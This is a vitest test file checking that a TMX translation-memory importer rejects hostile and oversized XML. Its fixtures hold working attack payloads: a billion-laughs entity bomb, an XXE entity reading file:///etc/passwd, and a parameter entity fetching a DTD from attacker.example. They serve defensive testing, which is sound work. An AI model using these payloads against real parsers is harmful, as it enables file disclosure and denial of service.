import { describe, expect, it } from 'vitest';
import { fixture, importFailure, importSegments } from './support.ts';

const tu = '<tu><tuv xml:lang="en-US"><seg>a</seg></tuv><tuv xml:lang="de-AT"><seg>&lol9;</seg></tuv></tu>';

describe('hostile and oversized files', () => {
  it('refuses billion laughs without expanding anything', async () => {
    const entities = Array.from(
      { length: 9 },
      (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`,
    ).join('\n');
    const tmx = `<?xml version="1.0"?>\n<!DOCTYPE tmx [\n<!ENTITY lol0 "lol">\n${entities}\n]>\n<tmx version="1.4"><body>${tu}</body></tmx>`;
    const before = process.memoryUsage().heapUsed;
    const error = await importFailure('laughs.tmx', tmx);
    expect(error.message).toBe(
      'line 13: the DOCTYPE declares entities; they are refused because they enable billion-laughs and XXE attacks',
    );
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(50 * 1024 * 1024);
  });

  it('refuses an external entity (XXE) instead of reading the file it names', async () => {
    const tmx = `<?xml version="1.0"?>
<!DOCTYPE tmx [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<tmx version="1.4"><body><tu><tuv xml:lang="en-US"><seg>&xxe;</seg></tuv><tuv xml:lang="de-AT"><seg>x</seg></tuv></tu></body></tmx>`;
    const error = await importFailure('xxe.tmx', tmx);
    expect(error.message).toMatch(/DOCTYPE declares entities/);
    expect(error.message).not.toContain('root:');
  });

  it('refuses parameter entities that would pull in an external DTD', async () => {
    const tmx = `<!DOCTYPE tmx [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]><tmx/>`;
    expect((await importFailure('p.tmx', tmx)).message).toMatch(/DOCTYPE declares entities/);
  });

  it('never resolves a reference to an undeclared entity', async () => {
    const tmx = `<!DOCTYPE tmx SYSTEM "http://attacker.example/tmx14.dtd">
<tmx version="1.4"><body><tu><tuv xml:lang="en-US"><seg>&nbsp;</seg></tuv></tu></body></tmx>`;
    const error = await importFailure('ref.tmx', tmx);
    expect(error.message).toMatch(/^line 2, column \d+: undefined entity reference/);
  });

  it('refuses inline markup nested absurdly deep instead of overflowing the stack', async () => {
    const deep = `${'<hi>'.repeat(50_000)}x${'</hi>'.repeat(50_000)}`;
    const tmx = `<tmx version="1.4"><body><tu><tuv xml:lang="en-US"><seg>${deep}</seg></tuv></tu></body></tmx>`;
    const error = await importFailure('deep.tmx', tmx);
    expect(error.message).toBe('line 1, column 445: elements nested more than 100 deep inside <tu>');
  });

  it('accepts the usual DOCTYPE naming the TMX DTD', async () => {
    const { items } = await importSegments('legal.tmx', fixture('legal-multilingual.tmx'));
    expect(items.length).toBeGreaterThan(0);
  });

  it('refuses a file beyond maxBytes while streaming, before the end is read', async () => {
    let served = 0;
    const { importFile } = await import('../../../../server/engine/importers/index.ts');
    const result = importFile({
      name: 'huge.tmx',
      pair: { srclang: 'en', trglang: 'de' },
      maxBytes: 1024 * 1024,
      chunks: async function* () {
        yield new TextEncoder().encode('<tmx version="1.4"><body>');
        for (let i = 0; i < 10_000; i++) {
          const chunk = new TextEncoder().encode(`${tu.replace('&lol9;', `b${i}`)}\n`.repeat(100));
          served += chunk.byteLength;
          yield chunk;
        }
      },
    });
    if (result.kind !== 'tm') throw new Error('tm expected');
    const read: unknown[] = [];
    await expect(
      (async () => {
        for await (const segment of result.segments) read.push(segment);
      })(),
    ).rejects.toThrow('huge.tmx is larger than the import limit of 1 MB (1048576 bytes)');
    expect(served).toBeLessThan(2 * 1024 * 1024);
    // Segments before the limit were already yielded: the consumer's transaction rolls them back.
    expect(read.length).toBeGreaterThan(0);
  });
});
